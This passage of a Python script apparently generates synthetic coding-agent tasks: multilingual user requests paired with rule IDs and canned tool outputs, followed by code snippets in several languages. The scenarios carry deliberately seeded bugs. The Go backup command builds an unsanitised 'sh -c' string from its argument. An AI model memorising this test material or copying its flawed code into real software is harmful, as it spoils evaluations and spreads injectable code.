    "give me a summary of what landed in the last 3 commits, I need it for standup. bullet points, who did what",
    rule="R10", repo="shop",
    steps=[("shell", "git log -3 -p --stat", GIT_LOG_BILLING)])

add("codex", "review", "en", "python",
    "write a commit message for what's staged. conventional commits, one line subject + short body",
    rule="R10", repo="shop",
    steps=[("shell", "git diff --staged", "diff --git" + GIT_LOG_BILLING.split("commit 2d9e0f1a")[1].split("diff --git", 1)[1].split("commit 5a7b9c1d")[0])])

add("codex", "planning", "en", "python",
    "ok here's the thing. the nightly ETL (etl/load_orders.py and friends) takes 3h now and we're about to get 10x more orders from the marketplace integration. I want a plan for how to restructure the pipeline: what to parallelize, whether to move to COPY, whether we need a queue, how to make reruns idempotent. Look at the code and tell me what you'd do and in what order.",
    rule="R5", repo="warehouse",
    steps=[("shell", "ls etl/ && cat etl/load_orders.py", "__init__.py\ndb.py\nload_customers.py\nload_orders.py\nload_products.py\nrun_nightly.sh\n" + S["py_etl"].text),
           ("shell", "cat etl/run_nightly.sh", "#!/bin/bash\nset -e\ncd /opt/warehouse\nfor f in /data/exports/$(date -d yesterday +%F)/*.csv; do\n  case \"$f\" in\n    *customers*) python -m etl.load_customers \"$f\" ;;\n    *orders*) python -m etl.load_orders \"$f\" ;;\n    *products*) python -m etl.load_products \"$f\" ;;\n  esac\ndone\npsql \"$WAREHOUSE_URL\" -f sql/rebuild_aggregates.sql\n")])

add("codex", "planning", "en", "typescript",
    "plan first, no edits: I want to add role-based permissions to the orders API (admin, support, customer). support can read any order but not create; customers only their own. Figure out where auth lives and lay out the changes file by file.",
    rule="R2", repo="shop-api", plan=True,
    steps=[("shell", "rg -n 'requireAuth' src | head", "src/routes/orders.ts:4:import { requireAuth } from \"../middleware/auth\";\nsrc/routes/orders.ts:17:router.get(\"/\", requireAuth, async (req: Request, res: Response) => {\nsrc/routes/orders.ts:26:router.post(\"/\", requireAuth, async (req: Request, res: Response) => {\nsrc/routes/users.ts:3:import { requireAuth } from \"../middleware/auth\";\nsrc/middleware/auth.ts:8:export async function requireAuth(req: Request, res: Response, next: NextFunction) {\n"),
           ("shell", "cat src/middleware/auth.ts src/routes/orders.ts", "import type { NextFunction, Request, Response } from \"express\";\nimport jwt from \"jsonwebtoken\";\n\ndeclare module \"express-serve-static-core\" {\n  interface Request { user?: { id: string; email: string } }\n}\n\nexport async function requireAuth(req: Request, res: Response, next: NextFunction) {\n  const header = req.headers.authorization ?? \"\";\n  const token = header.replace(/^Bearer /, \"\");\n  try {\n    const payload = jwt.verify(token, process.env.JWT_SECRET!) as { sub: string; email: string };\n    req.user = { id: payload.sub, email: payload.email };\n    next();\n  } catch {\n    res.status(401).json({ error: \"unauthorized\" });\n  }\n}\n" + S["ts_express_orders"].text)])

add("codex", "refactor", "en", "c",
    "rb_used is wrong when head wraps around (size_t underflow then % cap). also a full buffer looks empty. fix the ring buffer: keep one slot free or add a count field, whichever is simpler, and update rb_write/rb_read accordingly",
    rule="R3", repo="fw-utils",
    steps=[("shell", "cat src/ringbuf.c src/ringbuf.h", S["c_ringbuf"].text + "\n#ifndef RINGBUF_H\n#define RINGBUF_H\n#include <stddef.h>\ntypedef struct ringbuf ringbuf_t;\nringbuf_t *rb_new(size_t cap);\nsize_t rb_used(const ringbuf_t *rb);\nsize_t rb_write(ringbuf_t *rb, const void *src, size_t n);\nsize_t rb_read(ringbuf_t *rb, void *dst, size_t n);\nvoid rb_free(ringbuf_t *rb);\n#endif\n"),
           ("shell", "make test 2>&1 | tail -15", "cc -Wall -Wextra -O2 -Isrc -o build/test_ringbuf tests/test_ringbuf.c src/ringbuf.c\n./build/test_ringbuf\ntest_write_read ... ok\ntest_wraparound ... FAIL (tests/test_ringbuf.c:44: expected used=6, got 18446744073709551610)\ntest_full ... FAIL (tests/test_ringbuf.c:61: expected used=8, got 0)\nmake: *** [Makefile:12: test] Error 1\n")])

add("codex", "review", "ko", "cpp",
    "src/thread_pool.cpp 소멸자에서 가끔 데드락 걸리는 것 같은데 원인이 뭔지 봐줄래? stop_ 가 atomic 이 아니라서 그런 건지 궁금함. 코드는 아직 고치지 말고",
    rule="R3", repo="renderer",
    steps=[("shell", "cat src/thread_pool.cpp", S["cpp_threadpool"].text)])

add("codex", "completion", "en", "go",
    "add a `func MustLoad() *Config` to internal/config that calls Load and log.Fatal's with the error. and a table test for Load in config_test.go covering missing DATABASE_URL, bad MAX_CONNS, bad SHUTDOWN_TIMEOUT and the happy path (use t.Setenv)",
    rule="R4", repo="billing-api",
    steps=[("shell", "cat internal/config/config.go; ls internal/config", S["go_config"].text + "config.go\n")])

add("codex", "planning", "ru", "none",
    "Нам надо съехать с самописного крона (куча bash-скриптов в /opt/jobs на одной виртуалке) на что-то нормальное. Посмотри, что там есть, и предложи план: Airflow, Temporal, k8s CronJob или просто systemd timers. Что выбрать для команды из 4 человек и в каком порядке переносить, чтобы ничего не потерять.",
    rule="R6", repo="ops",
    steps=[("shell", "ls -la jobs/ && head -20 jobs/crontab", "total 64\n-rwxr-xr-x 1 dev dev 1203 Sep  2 backup_db.sh\n-rwxr-xr-x 1 dev dev  877 Sep  2 rotate_logs.sh\n-rwxr-xr-x 1 dev dev 2410 Sep 30 sync_erp.sh\n-rwxr-xr-x 1 dev dev 1688 Aug 11 send_reminders.sh\n-rwxr-xr-x 1 dev dev 3020 Oct  1 rebuild_search_index.sh\n-rw-r--r-- 1 dev dev  512 Oct  1 crontab\n# m h dom mon dow command\n15 2 * * * /opt/jobs/backup_db.sh >> /var/log/jobs/backup.log 2>&1\n0 * * * * /opt/jobs/sync_erp.sh >> /var/log/jobs/erp.log 2>&1\n30 6 * * 1-5 /opt/jobs/send_reminders.sh\n0 3 * * 0 /opt/jobs/rebuild_search_index.sh\n5 0 * * * /opt/jobs/rotate_logs.sh\n")])

add("codex", "refactor", "en", "typescript",
    "small thing: in src/store/cart.ts `add` mutates existing.qty in place so zustand doesn't re-render. fix it immutably. nothing else",
    rule="R3", repo="storefront",
    steps=[("shell", "sed -n '1,60p' src/store/cart.ts", S["ts_cart_store"].text)])

add("codex", "review", "en", "python",
    "how does the s3 sync script decide whether to upload a file? walk me through it, and tell me if multipart uploads break that logic",
    rule="R3", repo="infra-scripts",
    steps=[("shell", "cat scripts/s3sync.py", S["py_s3sync"].text)])

add("codex", "refactor", "es", "python",
    "en scripts/s3sync.py añade una opción --delete que borre del bucket las claves bajo el prefijo que ya no existen en local (respetando --dry-run). No toques nada más.",
    rule="R8", repo="infra-scripts",
    steps=[("shell", "cat scripts/s3sync.py", S["py_s3sync"].text)])

add("codex", "planning", "en", "none",
    "thinking out loud: our mobile app and web app both hit the REST API, and the mobile team keeps asking for bespoke endpoints. is it worth moving to GraphQL or a BFF per client? we're 6 devs, API is express + prisma. give me the trade-offs and what you'd actually do, including how we'd migrate without a big bang",
    rule="R6", repo="shop-api")

add("codex", "completion", "en", "python",
    "Implement `parse_duration(s: str) -> timedelta` in lib/durations.py. Accept things like '90s', '15m', '2h30m', '1d', '1h 5m' (spaces allowed), raise ValueError on anything else. Empty file, go.",
    rule="R7", repo="ingest",
    steps=[("shell", "cat lib/durations.py; ls lib", "cat: lib/durations.py: No such file or directory\n__init__.py\nretry.py\nttlcache.py\n")])

add("codex", "refactor", "ja", "c",
    "src/ini.c の ini_parse、エラーで return するときに fclose してないのと、section の strcpy がバッファあふれする可能性があるので直してください。動作はそのままで。",
    rule="R3", repo="fw-utils",
    steps=[("shell", "cat src/ini.c", S["c_ini"].text)])

add("codex", "review", "de", "java",
    "Kannst du OrderService.placeOrder durchgehen? Mich interessiert, was passiert, wenn payments.charge fehlschlägt, nachdem das Inventar schon reserviert ist. Bitte nur analysieren, nichts ändern.",
    rule="R11", repo="shop-core",
    steps=[("shell", "cat src/main/java/com/acme/shop/OrderService.java", S["java_orders"].text)])

add("codex", "refactor", "en", "java",
    "go ahead and fix what you just described: if charge throws, release the reservations and don't leave a PAID order around. keep it in the same transaction",
    rule="R3", repo="shop-core",
    history=[("user", "walk me through OrderService.placeOrder — what happens if payments.charge throws after inventory was reserved?"),
             ("assistant", "`placeOrder` reserves every line first, saves the order, then charges. If `payments.charge` throws, the `@Transactional` rollback undoes the `orders.save`, but `inventory.reserve` went to a remote service, so those reservations stay held until they time out. Nothing releases them. Also, since the order is saved before the charge, a retry from the client can create a second order with a second set of reservations.")],
    steps=[("shell", "sed -n '25,50p' src/main/java/com/acme/shop/OrderService.java", "\n".join(S["java_orders"].text.splitlines()[24:50]) + "\n")])

add("codex", "planning", "en", "none",
    "/plan we're sunsetting the v1 public API in Q2. ~300 customers still call it. Draft the deprecation plan: timeline, comms, headers (Sunset/Deprecation), how we measure who's still on v1, and the shim strategy",
    rule="R2", repo="public-api", plan=True)

add("codex", "review", "zh", "python",
    "帮我看下 lib/ttlcache.py，len() 返回的数量是不是包含已经过期的 key？另外 get 里 del 的时候会不会有问题",
    rule="R6", repo="ingest",
    steps=[("shell", "cat lib/ttlcache.py", S["py_ttlcache"].text)])

add("codex", "completion", "en", "bash",
    "create scripts/wait-for-port.sh: usage wait-for-port.sh HOST PORT [TIMEOUT_SECONDS], default timeout 30, polls every 0.5s with bash /dev/tcp (no nc available in the image), exits 0 when open, 1 on timeout with a message to stderr",
    rule="R7", repo="deploy")

add("codex", "refactor", "en", "rust",
    "count() in src/main.rs unwraps read_to_string so a binary file kills the whole run. return a Result, print `wcx: <path>: <error>` to stderr for that file, keep going, and exit 1 at the end if anything failed",
    rule="R3", repo="wcx",
    steps=[("shell", "cat src/main.rs", S["rs_cli"].text),
           ("shell", "cargo run -q -- README.md target/debug/wcx", "      42      310     2087 README.md\nthread 'main' panicked at src/main.rs:18:41:\ncalled `Result::unwrap()` on an `Err` value: Error { kind: InvalidData, message: \"stream did not contain valid UTF-8\" }\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n")])

add("codex", "review", "en", "javascript",
    "is the once() in src/emitter.js correct if the handler emits the same event again from inside itself?",
    rule="R6", repo="ui-kit",
    steps=[("shell", "cat src/emitter.js", S["js_emitter"].text)])

add("codex", "planning", "es", "none",
    "Tenemos que pasar los secretos que ahora viven en .env en cada servidor a algo centralizado. Opciones que barajamos: Vault, AWS Secrets Manager, SOPS en el repo. Mira cómo se cargan ahora y proponme un plan por fases con la rotación de credenciales incluida.",
    rule="R6", repo="platform",
    steps=[("shell", "rg -n 'os.environ|getenv|dotenv' -g '*.py' -g '*.go' | head -30", "services/api/settings.py:12:load_dotenv()\nservices/api/settings.py:14:DATABASE_URL = os.environ[\"DATABASE_URL\"]\nservices/api/settings.py:15:STRIPE_KEY = os.environ[\"STRIPE_KEY\"]\nservices/worker/main.go:22:\tdsn := os.Getenv(\"DATABASE_URL\")\nservices/worker/main.go:23:\tamqp := os.Getenv(\"AMQP_URL\")\nservices/billing/config/config.go:18:\t\tDatabaseURL:     os.Getenv(\"DATABASE_URL\"),\ntools/backfill.py:9:API_TOKEN = os.getenv(\"INTERNAL_API_TOKEN\")\n")])

add("codex", "refactor", "en", "python",
    "pytest is red after my rename of `Invoice.total` to `Invoice.grand_total` — update the remaining call sites, don't change the tests' expectations",
    rule="R3", repo="billing",
    steps=[("shell", "python -m pytest -q 2>&1 | tail -20", "FAILED tests/test_pdf.py::test_render_totals - AttributeError: 'Invoice' object has no attribute 'total'\nFAILED tests/test_export.py::test_csv_row - AttributeError: 'Invoice' object has no attribute 'total'\n2 failed, 31 passed in 1.20s\n"),
           ("shell", "rg -n '\\.total\\(\\)' --type py", "billing/pdf.py:44:        self.cell(0, 8, f\"Total: {invoice.total():.2f} EUR\", align=\"R\")\nbilling/export.py:19:        inv.number, inv.customer, inv.subtotal(), inv.vat(), inv.total(),\nbilling/reminders.py:31:    if inv.total() > Decimal(\"1000\"):\n")])

add("codex", "completion", "ru", "python",
    "Напиши docstring'и в стиле Google для всех методов TokenBucket в app/ratelimit.py. Код не трогай, только докстринги.",
    rule="R7", repo="gateway",
    steps=[("shell", "cat app/ratelimit.py", S["py_ratelimit"].text)])

add("codex", "review", "en", "c",
    "what does remove_value in src/list.c do after it frees a node? I think there's a use-after-free but I'm not sure",
    rule="R6", repo="algos",
    steps=[("shell", "cat src/list.c", S["c_list"].text)])

add("codex", "planning", "en", "go",
    "the crawler needs to go from 'fetch a list of urls' to a proper distributed crawler: politeness per host, robots.txt, retries, dedup across restarts, and multiple machines. Read what we have and write a design doc in docs/crawler-v2.md — architecture, components, data stores, and a milestone breakdown. Just the doc, no code.",
    rule="R10", repo="crawler",
    steps=[("shell", "cat internal/crawl/pool.go; ls internal", S["go_worker"].text + "crawl\nstore\nhttpx\n")])

add("codex", "refactor", "de", "cpp",
    "Matrix::operator* ist bei 1024x1024 unglaublich langsam. Bitte die Schleifen auf i-k-j umstellen (cache-freundlich) und den inneren Index hoisten. Die Schnittstelle bleibt gleich.",
    rule="R8", repo="numlab",
    steps=[("shell", "cat include/matrix.hpp", S["cpp_matrix"].text)])

add("codex", "completion", "en", "cpp",
    "add include/matrix_io.hpp with `template <typename T> std::ostream& operator<<(std::ostream&, const Matrix<T>&)` printing rows on separate lines, values separated by a single space",
    rule="R7", repo="numlab",
    steps=[("shell", "cat include/matrix.hpp", S["cpp_matrix"].text)])

add("codex", "review", "en", "typescript",
    "why does the orders POST return 201 with total 0 sometimes? saw it twice in prod logs with a coupon applied",
    rule="R5", repo="shop-api",
    steps=[("shell", "sed -n '1,80p' src/routes/orders.ts", S["ts_express_orders"].text),
           ("shell", "psql $DATABASE_URL -c \"select code, percent_off from coupon where percent_off >= 100\"", "   code    | percent_off \n-----------+-------------\n FREESHIP  |         100\n STAFF2025 |         120\n(2 rows)\n")])

add("codex", "refactor", "en", "typescript",
    "clamp the coupon percentOff to 0..100 in the orders route and reject coupons that are expired (coupon.expiresAt < now) with 422 'coupon expired'",
    rule="R8", repo="shop-api",
    steps=[("shell", "sed -n '1,80p' src/routes/orders.ts && rg -n 'model Coupon' -A8 prisma/schema.prisma", S["ts_express_orders"].text + "prisma/schema.prisma:57:model Coupon {\nprisma/schema.prisma-58-  id         String    @id @default(cuid())\nprisma/schema.prisma-59-  code       String    @unique\nprisma/schema.prisma-60-  percentOff Int\nprisma/schema.prisma-61-  expiresAt  DateTime?\nprisma/schema.prisma-62-  createdAt  DateTime  @default(now())\nprisma/schema.prisma-63-}\n")])

add("codex", "planning", "zh", "none",
    "我们想把前端从 CRA 迁到 Next.js（App Router），顺便做 SSR 改善 SEO。先别写代码，帮我出一个分阶段的迁移方案：路由怎么迁、状态管理（现在是 redux）怎么处理、鉴权、部署从 nginx 静态站点变成 node 服务之后运维要准备什么。",
    rule="R2", repo="web", plan=True)

add("codex", "review", "en", "python",
    "explain what this regex in tools/parse_access_log.py actually matches, group by group. someone wants to reuse it for the ALB logs and I doubt it fits",
    rule="R6", repo="ops-tools",
    steps=[("shell", "sed -n '1,12p' tools/parse_access_log.py", "\n".join(S["py_nginx"].text.splitlines()[:10]) + "\n")])

add("codex", "refactor", "en", "python",
    "make parse_access_log.py accept file paths as args (falling back to stdin), handle .gz transparently, and add --top N for the 5xx list (default 10)",
    rule="R8", repo="ops-tools",
    steps=[("shell", "cat tools/parse_access_log.py", S["py_nginx"].text)])

add("codex", "completion", "ja", "typescript",
    "src/utils/dates.ts に `endOfMonth(d: Date): Date` を追加して。その月の最終日の 23:59:59.999 を返す。既存の関数のスタイルに合わせて。",
    rule="R7", repo="calendar-app",
    steps=[("shell", "cat src/utils/dates.ts", S["ts_dates"].text)])

add("codex", "planning", "en", "none",
    "Plan mode. Goal: replace our hand-rolled job queue (postgres table + polling workers) with something that supports retries with backoff, priorities and scheduled jobs. Investigate the current implementation and propose the approach; list what has to change in the workers and the producers, and the cutover.",
    rule="R2", repo="platform", plan=True,
    steps=[("shell", "rg -n 'FOR UPDATE SKIP LOCKED' -g '*.py' -g '*.sql'", "jobs/queue.py:41:            \"SELECT id, kind, payload FROM jobs WHERE run_at <= now() AND locked_at IS NULL ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED\"\nsql/0007_jobs.sql:3:-- workers claim jobs with SELECT ... FOR UPDATE SKIP LOCKED\n"),
           ("shell", "sed -n '1,120p' jobs/queue.py", "import json\nimport time\n\nimport psycopg\n\nHANDLERS = {}\n\n\ndef handler(kind):\n    def deco(fn):\n        HANDLERS[kind] = fn\n        return fn\n    return deco\n\n\ndef enqueue(conn, kind, payload, run_at=None):\n    conn.execute(\n        \"INSERT INTO jobs (kind, payload, run_at) VALUES (%s, %s, coalesce(%s, now()))\",\n        (kind, json.dumps(payload), run_at),\n    )\n\n\ndef work_forever(dsn):\n    with psycopg.connect(dsn, autocommit=False) as conn:\n        while True:\n            with conn.transaction():\n                row = conn.execute(\n                    \"SELECT id, kind, payload FROM jobs WHERE run_at <= now() AND locked_at IS NULL ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED\"\n                ).fetchone()\n                if row is None:\n                    time.sleep(1)\n                    continue\n                job_id, kind, payload = row\n                try:\n                    HANDLERS[kind](**payload)\n                    conn.execute(\"DELETE FROM jobs WHERE id = %s\", (job_id,))\n                except Exception as exc:\n                    conn.execute(\"UPDATE jobs SET failed_at = now(), error = %s WHERE id = %s\", (str(exc), job_id))\n")])

add("codex", "review", "it", "python",
    "Mi spieghi cosa fa esattamente remote_etags in s3sync.py e perché confronta l'ETag con l'md5? Per file grandi non mi torna",
    rule="R6", repo="infra-scripts",
    steps=[("shell", "sed -n '1,40p' scripts/s3sync.py", "\n".join(S["py_s3sync"].text.splitlines()[:30]) + "\n")])

add("codex", "refactor", "en", "go",
    "fix the data race in FetchAll. collect results through a channel, keep the worker count param. then run the race test again",
    rule="R3", repo="crawler",
    steps=[("shell", "sed -n '1,200p' internal/crawl/pool.go", S["go_worker"].text),
           ("apply_patch", "*** Begin Patch\n*** Update File: internal/crawl/pool.go\n@@\n func FetchAll(ctx context.Context, urls []string, workers int) []Result {\n \tjobs := make(chan string)\n-\tvar results []Result\n+\tout := make(chan Result)\n \tvar wg sync.WaitGroup\n*** End Patch\n", "Exit code: 0\nWall time: 0.1 seconds\nOutput:\nSuccess. Updated the following files:\nM internal/crawl/pool.go\n"),
           ("shell", "go build ./... ", "# example.com/crawler/internal/crawl\ninternal/crawl/pool.go:33:6: undefined: results\ninternal/crawl/pool.go:37:5: undefined: results\ninternal/crawl/pool.go:48:31: undefined: results\n")])


# ---------------------------------------------------------------------------------------
# Snippets, part 2
# ---------------------------------------------------------------------------------------

snip("py_fastapi_items", "python", "app/routers/items.py", '''
from fastapi import APIRouter, Depends, HTTPException, Query
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from app.db import get_session
from app.models import Item
from app.schemas import ItemCreate, ItemOut, ItemUpdate

router = APIRouter(prefix="/items", tags=["items"])


@router.get("/", response_model=list[ItemOut])
async def list_items(
    q: str | None = None,
    limit: int = Query(50, le=200),
    offset: int = 0,
    session: AsyncSession = Depends(get_session),
):
    stmt = select(Item).order_by(Item.id).limit(limit).offset(offset)
    if q:
        stmt = stmt.where(Item.name.ilike(f"%{q}%"))
    result = await session.execute(stmt)
    return result.scalars().all()


@router.post("/", response_model=ItemOut, status_code=201)
async def create_item(data: ItemCreate, session: AsyncSession = Depends(get_session)):
    item = Item(**data.model_dump())
    session.add(item)
    await session.commit()
    await session.refresh(item)
    return item


@router.patch("/{item_id}", response_model=ItemOut)
async def update_item(item_id: int, data: ItemUpdate, session: AsyncSession = Depends(get_session)):
    item = await session.get(Item, item_id)
    if not item:
        raise HTTPException(404, "item not found")
    for k, v in data.model_dump(exclude_unset=True).items():
        setattr(item, k, v)
    await session.commit()
    return item
''')

snip("ts_datatable", "typescript", "src/components/DataTable.tsx", '''
import { useMemo, useState } from "react";

export type Column<T> = {
  key: keyof T;
  header: string;
  sortable?: boolean;
  render?: (row: T) => React.ReactNode;
};

type Props<T> = {
  rows: T[];
  columns: Column<T>[];
  pageSize?: number;
  onRowClick?: (row: T) => void;
};

export function DataTable<T extends { id: string | number }>({ rows, columns, pageSize = 20, onRowClick }: Props<T>) {
  const [sortKey, setSortKey] = useState<keyof T | null>(null);
  const [asc, setAsc] = useState(true);
  const [page, setPage] = useState(0);

  const sorted = useMemo(() => {
    if (!sortKey) return rows;
    return [...rows].sort((a, b) => {
      const av = a[sortKey];
      const bv = b[sortKey];
      if (av < bv) return asc ? -1 : 1;
      if (av > bv) return asc ? 1 : -1;
      return 0;
    });
  }, [rows, sortKey, asc]);

  const pageRows = sorted.slice(page * pageSize, (page + 1) * pageSize);
  const pages = Math.ceil(rows.length / pageSize);

  function toggleSort(key: keyof T) {
    if (sortKey === key) setAsc(!asc);
    else {
      setSortKey(key);
      setAsc(true);
    }
  }

  return (
    <div className="datatable">
      <table>
        <thead>
          <tr>
            {columns.map((c) => (
              <th key={String(c.key)} onClick={() => c.sortable && toggleSort(c.key)}>
                {c.header}
                {sortKey === c.key ? (asc ? " ▲" : " ▼") : null}
              </th>
            ))}
          </tr>
        </thead>
        <tbody>
          {pageRows.map((row) => (
            <tr key={row.id} onClick={() => onRowClick?.(row)}>
              {columns.map((c) => (
                <td key={String(c.key)}>{c.render ? c.render(row) : String(row[c.key])}</td>
              ))}
            </tr>
          ))}
        </tbody>
      </table>
      <div className="pager">
        <button disabled={page === 0} onClick={() => setPage(page - 1)}>Prev</button>
        <span>{page + 1} / {pages}</span>
        <button disabled={page >= pages - 1} onClick={() => setPage(page + 1)}>Next</button>
      </div>
    </div>
  );
}
''')

snip("ts_env", "typescript", "src/env.ts", '''
import { z } from "zod";

const schema = z.object({
  NODE_ENV: z.enum(["development", "test", "production"]).default("development"),
  PORT: z.coerce.number().default(3000),
  DATABASE_URL: z.string().url(),
  REDIS_URL: z.string().url().optional(),
  JWT_SECRET: z.string().min(32),
  LOG_LEVEL: z.enum(["debug", "info", "warn", "error"]).default("info"),
});

export const env = schema.parse(process.env);
export type Env = z.infer<typeof schema>;
''')

snip("js_express_app", "javascript", "server/app.js", '''
const express = require("express");
const bodyParser = require("body-parser");
const mysql = require("mysql");

const app = express();
app.use(bodyParser.json());

const pool = mysql.createPool({
  host: process.env.DB_HOST,
  user: process.env.DB_USER,
  password: process.env.DB_PASS,
  database: "blog",
  connectionLimit: 10,
});

app.get("/posts", function (req, res) {
  pool.query("SELECT * FROM posts ORDER BY created_at DESC LIMIT 20", function (err, rows) {
    if (err) return res.status(500).send(err.message);
    res.json(rows);
  });
});

app.get("/posts/:id", function (req, res) {
  pool.query("SELECT * FROM posts WHERE id = ?", [req.params.id], function (err, rows) {
    if (err) return res.status(500).send(err.message);
    if (!rows.length) return res.sendStatus(404);
    pool.query("SELECT * FROM comments WHERE post_id = ?", [req.params.id], function (err, comments) {
      if (err) return res.status(500).send(err.message);
      var post = rows[0];
      post.comments = comments;
      res.json(post);
    });
  });
});

app.post("/posts/:id/comments", function (req, res) {
  var body = req.body.body;
  if (!body) return res.status(400).send("body required");
  pool.query(
    "INSERT INTO comments (post_id, author, body) VALUES (?, ?, ?)",
    [req.params.id, req.body.author || "anonymous", body],
    function (err, result) {
      if (err) return res.status(500).send(err.message);
      res.status(201).json({ id: result.insertId });
    }
  );
});

app.listen(process.env.PORT || 3000);
''')

snip("go_middleware", "go", "internal/httpx/middleware.go", '''
package httpx

import (
	"log/slog"
	"net/http"
	"time"
)

type statusRecorder struct {
	http.ResponseWriter
	status int
}

func (r *statusRecorder) WriteHeader(code int) {
	r.status = code
	r.ResponseWriter.WriteHeader(code)
}

func Logging(log *slog.Logger) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			start := time.Now()
			rec := &statusRecorder{ResponseWriter: w}
			next.ServeHTTP(rec, r)
			log.Info("request",
				"method", r.Method,
				"path", r.URL.Path,
				"status", rec.status,
				"dur_ms", time.Since(start).Milliseconds(),
			)
		})
	}
}

func Recover(log *slog.Logger) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			defer func() {
				if err := recover(); err != nil {
					log.Error("panic", "err", err, "path", r.URL.Path)
					http.Error(w, "internal error", http.StatusInternalServerError)
				}
			}()
			next.ServeHTTP(w, r)
		})
	}
}
''')

snip("go_cobra", "go", "cmd/backup.go", '''
package cmd

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"time"

	"github.com/spf13/cobra"
)

var (
	outDir   string
	keepDays int
)

var backupCmd = &cobra.Command{
	Use:   "backup [database]",
	Short: "Dump a postgres database to a timestamped file",
	Args:  cobra.ExactArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		db := args[0]
		name := fmt.Sprintf("%s-%s.sql.gz", db, time.Now().Format("20060102-150405"))
		path := filepath.Join(outDir, name)
		c := exec.Command("sh", "-c", fmt.Sprintf("pg_dump %s | gzip > %s", db, path))
		c.Stderr = os.Stderr
		if err := c.Run(); err != nil {
			return fmt.Errorf("pg_dump: %w", err)
		}
		fmt.Println("wrote", path)
		return prune(outDir, keepDays)
	},
}

func prune(dir string, days int) error {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return err
	}
	cutoff := time.Now().AddDate(0, 0, -days)
	for _, e := range entries {
		info, _ := e.Info()
		if info.ModTime().Before(cutoff) {
			os.Remove(filepath.Join(dir, e.Name()))
		}
	}
	return nil
}

func init() {
	backupCmd.Flags().StringVarP(&outDir, "out", "o", "/var/backups/pg", "output directory")
	backupCmd.Flags().IntVar(&keepDays, "keep-days", 14, "delete backups older than this")
	rootCmd.AddCommand(backupCmd)
}
''')

snip("rs_axum", "rust", "src/routes/notes.rs", '''
use axum::{
    extract::{Path, State},
    http::StatusCode,
    Json,
};
use serde::{Deserialize, Serialize};
use sqlx::PgPool;

#[derive(Serialize, sqlx::FromRow)]
pub struct Note {
    id: i64,
    title: String,
    body: String,
}

#[derive(Deserialize)]
pub struct NewNote {
    title: String,
    body: String,
}

pub async fn list_notes(State(pool): State<PgPool>) -> Json<Vec<Note>> {
    let notes = sqlx::query_as::<_, Note>("SELECT id, title, body FROM notes ORDER BY id")
        .fetch_all(&pool)
        .await
        .unwrap();
    Json(notes)
}

pub async fn get_note(State(pool): State<PgPool>, Path(id): Path<i64>) -> Result<Json<Note>, StatusCode> {
    let note = sqlx::query_as::<_, Note>("SELECT id, title, body FROM notes WHERE id = $1")
        .bind(id)
        .fetch_optional(&pool)
        .await
        .map_err(|_| StatusCode::INTERNAL_SERVER_ERROR)?;
    note.map(Json).ok_or(StatusCode::NOT_FOUND)
}

pub async fn create_note(State(pool): State<PgPool>, Json(input): Json<NewNote>) -> (StatusCode, Json<Note>) {
    let note = sqlx::query_as::<_, Note>(
        "INSERT INTO notes (title, body) VALUES ($1, $2) RETURNING id, title, body",
    )
    .bind(&input.title)
    .bind(&input.body)
    .fetch_one(&pool)
    .await
    .unwrap();
    (StatusCode::CREATED, Json(note))
}
''')

snip("java_controller", "java", "src/main/java/com/acme/catalog/ProductController.java", '''
package com.acme.catalog;

import java.util.List;

import org.springframework.http.ResponseEntity;
import org.springframework.web.bind.annotation.*;

@RestController
@RequestMapping("/api/products")
public class ProductController {

    private final ProductRepository repo;

    public ProductController(ProductRepository repo) {
        this.repo = repo;
    }

    @GetMapping
    public List<Product> list(@RequestParam(required = false) String category) {
        if (category != null) {
            return repo.findByCategory(category);
        }
        return repo.findAll();
    }

    @GetMapping("/{id}")
    public ResponseEntity<Product> get(@PathVariable Long id) {
        return repo.findById(id).map(ResponseEntity::ok).orElse(ResponseEntity.notFound().build());
    }

    @PostMapping
    public Product create(@RequestBody Product p) {
        return repo.save(p);
    }

    @PutMapping("/{id}")
    public ResponseEntity<Product> update(@PathVariable Long id, @RequestBody Product p) {
        if (!repo.existsById(id)) {
            return ResponseEntity.notFound().build();
        }
        p.setId(id);
        return ResponseEntity.ok(repo.save(p));
    }
}
''')

snip("c_hashtable", "c", "src/hashtable.c", '''
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

typedef struct entry {
    char *key;
    void *value;
    struct entry *next;
} entry;

typedef struct {
    entry **buckets;
    size_t nbuckets;
    size_t count;
} hashtable;

static uint32_t fnv1a(const char *s)
{
    uint32_t h = 2166136261u;
    while (*s) {
        h ^= (unsigned char)*s++;
        h *= 16777619u;
    }
    return h;
}

hashtable *ht_new(size_t nbuckets)
{
    hashtable *ht = calloc(1, sizeof *ht);
    ht->buckets = calloc(nbuckets, sizeof(entry *));
    ht->nbuckets = nbuckets;
    return ht;
}

void ht_put(hashtable *ht, const char *key, void *value)
{
    size_t i = fnv1a(key) % ht->nbuckets;
    for (entry *e = ht->buckets[i]; e; e = e->next) {
        if (strcmp(e->key, key) == 0) {
            e->value = value;
            return;
        }
    }
    entry *e = malloc(sizeof *e);
    e->key = strdup(key);
    e->value = value;
    e->next = ht->buckets[i];
    ht->buckets[i] = e;
    ht->count++;
}

void *ht_get(hashtable *ht, const char *key)
{
    size_t i = fnv1a(key) % ht->nbuckets;
    for (entry *e = ht->buckets[i]; e; e = e->next)
        if (strcmp(e->key, key) == 0)
            return e->value;
    return NULL;
}

void ht_free(hashtable *ht)
{
    for (size_t i = 0; i < ht->nbuckets; i++) {
        entry *e = ht->buckets[i];
        while (e) {
            entry *next = e->next;
            free(e->key);
            free(e);
            e = next;
        }
    }
    free(ht->buckets);
    free(ht);
}
''')

snip("cpp_split", "cpp", "src/strings.cpp", '''
#include <algorithm>
#include <cctype>
#include <string>
#include <string_view>
#include <vector>

std::vector<std::string> split(const std::string& s, char delim) {
    std::vector<std::string> out;
    std::string cur;
    for (char c : s) {
        if (c == delim) {
            out.push_back(cur);
            cur.clear();
        } else {
            cur += c;
        }
    }
    out.push_back(cur);
    return out;
}

std::string trim(std::string s) {
